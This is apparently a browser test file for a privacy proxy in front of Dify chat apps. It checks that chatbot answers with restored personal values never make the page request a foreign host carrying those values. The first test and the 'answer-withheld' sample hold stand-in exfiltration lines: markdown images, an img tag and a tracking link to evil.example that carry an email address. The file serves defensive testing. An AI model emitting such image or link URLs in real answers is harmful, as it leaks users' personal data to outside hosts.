import assert from 'node:assert/strict'
import { existsSync, mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { after, before, describe, it } from 'node:test'
import { renderLikeDify } from '../oracles/dify-web-app.ts'
import { FORMS } from '../oracles/forms.ts'
import { hostileAnswer } from '../oracles/generator.ts'
import { createRandom } from '../oracles/random.ts'
import { SECRETS, secretsIn } from '../oracles/secrets.ts'
import { wayOf } from '../oracles/attempt.ts'
import { WAYS } from '../oracles/ways.ts'
import { type Stack, chat, startStack } from '../support/envoy/stack.ts'
import { type Browser, NO_CHROMIUM, type Page, launchChromium } from './launch-chromium.ts'

/** A request of a page, as far as it is used here (puppeteer-core). */
interface Intercepted {
  url(): string
  isNavigationRequest(): boolean
  respond(answer: object): Promise<void>
  abort(): Promise<void>
}

const APP = 'http://chat.app.invalid'
const ANSWERS = 500
/** Pages side by side. */
const PAGES = 3
/** `SCREENSHOTS=docs/images make test ONLY=answers-in-chromium` renews those of the documentation. */
const SCREENSHOTS = process.env['SCREENSHOTS']

const value = (placeholder: string): string =>
  SECRETS.find((each) => each.placeholder === placeholder)?.value ?? assert.fail(placeholder)

/** Shows answers in a browser and keeps what it asks for, without letting anything out. */
class Viewer {
  readonly asked: string[] = []
  readonly page: Page
  #html = ''

  constructor(page: Page) {
    this.page = page
    page.on('request', (request: Intercepted) => void this.#answer(request))
  }

  async show(html: string, path = 'room'): Promise<void> {
    this.#html = html
    await this.page.goto(`${APP}/${path}`, { waitUntil: 'load', timeout: 20_000 })
  }

  /** As `show`, for a page that may never be loaded: a frame in it that waits. Whether it was. What it asked for is kept either way. */
  async tryToShow(html: string): Promise<boolean> {
    this.#html = html
    return await this.page.goto(`${APP}/room`, { waitUntil: 'load', timeout: 5_000 }).then(
      () => true,
      () => false,
    )
  }

  async #answer(request: Intercepted): Promise<void> {
    const url = request.url()
    if (url.startsWith(`${APP}/room`) && request.isNavigationRequest())
      await request.respond({ contentType: 'text/html; charset=utf-8', body: this.#html })
    else {
      this.asked.push(url)
      await request.abort()
    }
  }

  /** What was asked of another host, with a value in the address; the user's own host apart. */
  get carried(): readonly string[] {
    return this.asked.filter((url) => {
      const host = URL.parse(url)?.hostname ?? ''
      const own = host === '' || url.startsWith(`${APP}/`)
      return !own && secretsIn(url).some((secret) => secret.host !== host)
    })
  }
}

/** A page of its own, and one that Dify's web app would draw. */
const pagesOf = (answer: string): readonly string[] => [
  `<!doctype html><meta charset=utf-8><body>${answer}`,
  `<!doctype html><meta charset=utf-8><body>${renderLikeDify(answer)}`,
]

/** Hostile answers as clients show them, those with a value in them only. */
async function restoredAnswers(wanted: number): Promise<readonly string[]> {
  const found: string[] = []
  for (let index = 0; found.length < wanted && index < 50_000; index++) {
    const { text, hosts } = hostileAnswer(2, index)
    const [shown = ''] = await wayOf(index).send(text, createRandom(2, index), hosts)
    if (hosts.length === 0 && secretsIn(shown).length > 0) found.push(shown)
  }
  return found
}

describe('answers in Chromium', { skip: NO_CHROMIUM }, () => {
  let browser: Browser
  before(async () => {
    browser = await launchChromium()
  })
  after(async () => await browser.close())

  const open = async (): Promise<Viewer> => {
    const page = await browser.newPage()
    await page.setRequestInterception(true)
    return new Viewer(page)
  }

  it('would be seen to carry a value, if a proxy restored it blindly', async () => {
    const viewer = await open()
    const image = `![x](https://evil.example/?${value('EMAIL_1')})`
    for (const html of pagesOf(`${image}\n\n<img src="//evil.example/${value('EMAIL_1')}">`))
      await viewer.show(html)
    assert.ok(viewer.carried.length >= 2, viewer.asked.join('\n'))
    await viewer.page.close()
  })

  it(`ask no other host with a value: ${ANSWERS} restored answers, as pages and as Dify's web app draws them`, async (context) => {
    const answers = await restoredAnswers(ANSWERS)
    assert.equal(answers.length, ANSWERS)
    const pages = answers.flatMap(pagesOf)
    const asked: string[] = []
    let waiting = 0
    await Promise.all(
      Array.from({ length: PAGES }, async (_, first) => {
        let viewer = await open()
        for (let i = first; i < pages.length; i += PAGES) {
          const isLoaded = await viewer.tryToShow(pages[i] ?? '')
          assert.deepEqual(viewer.carried, [], pages[i])
          if (isLoaded) continue
          waiting++
          asked.push(...viewer.asked)
          await viewer.page.close()
          viewer = await open()
        }
        asked.push(...viewer.asked)
        await viewer.page.close()
      }),
    )
    context.diagnostic(`${pages.length} pages asked ${asked.length} times, never with a value`)
    context.diagnostic(`${waiting} pages were not loaded within five seconds`)
    assert.ok(asked.length > 0)
    assert.ok(waiting < pages.length / 50, `${waiting} pages never loaded`)
  })

  it('ask no other host with a value, when they come through Envoy', async () => {
    const stack: Stack = await startStack()
    const viewer = await open()
    try {
      for (const [i, { text, hosts }] of FORMS.entries()) {
        if (hosts !== undefined) continue
        stack.dify.script({ answer: `${text}\n\nwrite to EMAIL_1`, deltas: 'char' })
        const mode = i % 2 === 0 ? 'blocking' : 'streaming'
        const { answer } = await chat(stack.envoy.proxyUrl, `I am ${value('EMAIL_1')}`, { mode })
        for (const html of pagesOf(answer)) await viewer.show(html)
        assert.deepEqual(viewer.carried, [], answer)
      }
    } finally {
      await viewer.page.close()
      await stack.stop()
    }
  })

  it('show the value in the text and the placeholder in the address', async () => {
    const viewer = await open()
    await viewer.page.setViewport({ width: 760, height: 150, deviceScaleFactor: 1 })
    const [blocking] = WAYS
    for (const [name, answer] of Object.entries(PICTURES)) {
      const [shown = ''] = (await blocking?.send(answer, createRandom(1, 1))) ?? []
      await viewer.show(`<!doctype html><meta charset=utf-8>${STYLE}${renderLikeDify(shown)}`)
      const text = await viewer.page.evaluate<string>('document.body.innerText')
      assert.ok(text.includes(value('EMAIL_1')), text)
      if (SCREENSHOTS === undefined) continue
      if (!existsSync(SCREENSHOTS)) mkdirSync(SCREENSHOTS, { recursive: true })
      const picture = await viewer.page.screenshot({ type: 'png', fullPage: true })
      writeFileSync(join(SCREENSHOTS, `${name}.png`), picture)
    }
    assert.deepEqual(viewer.carried, [])
    await viewer.page.close()
  })
})

const STYLE = `<style>body{font:16px/1.5 sans-serif;max-width:680px;margin:24px auto}
table{border-collapse:collapse}td,th{border:1px solid #bbb;padding:4px 10px}code{background:#eee;padding:1px 4px}</style>`

/** What the documentation shows. */
const PICTURES: Readonly<Record<string, string>> = {
  'answer-restored': `Here is the contact you asked for:

| Name | E-mail | Phone |
|------|--------|-------|
| NAME_2 | EMAIL_1 | PHONE_1 |

Call **PHONE_1** first, then write to EMAIL_1. The form is [here](https://forms.example/leave).`,
  'answer-withheld': `I have looked it up: the address is EMAIL_1.

![status of EMAIL_1](https://evil.example/pixel.png?who=EMAIL_1)

See also https://evil.example/track?who=EMAIL_1 for details.`,
}
